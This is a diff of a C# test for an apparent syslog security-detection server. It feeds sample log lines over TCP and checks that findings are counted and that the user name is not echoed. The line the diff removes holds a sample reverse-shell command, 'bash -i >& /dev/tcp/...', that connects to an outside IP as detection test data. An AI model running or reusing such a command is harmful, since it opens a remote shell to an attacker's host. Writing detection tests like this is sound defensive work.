@@ -103,7 +103,7 @@ public sealed class ServeTests : IDisposable
     {
         using ServeSession serve = new(_folder);
         using TcpClient tcp = new("127.0.0.1", serve.SyslogPort);
-        tcp.GetStream().Write("<86>Nov 22 10:00:00 web1 sudo: pam_unix(sudo:auth): authentication failure; logname=carol uid=1000 euid=0 tty=/dev/pts/0 ruser=carol rhost= user=carol\n<13>Nov 22 10:00:01 web1 bash: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"u8);
+        tcp.GetStream().Write("<85>Nov 22 10:00:00 web1 sudo: carol : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/carol ; USER=root ; COMMAND=/usr/bin/ssh carol@203.0.113.9\n"u8);
         serve.WaitFor("palisade_findings_total", "", 1);
         Assert.Equal(0, serve.End());
         Assert.DoesNotContain("carol", serve.Errors + serve.Output, StringComparison.Ordinal);
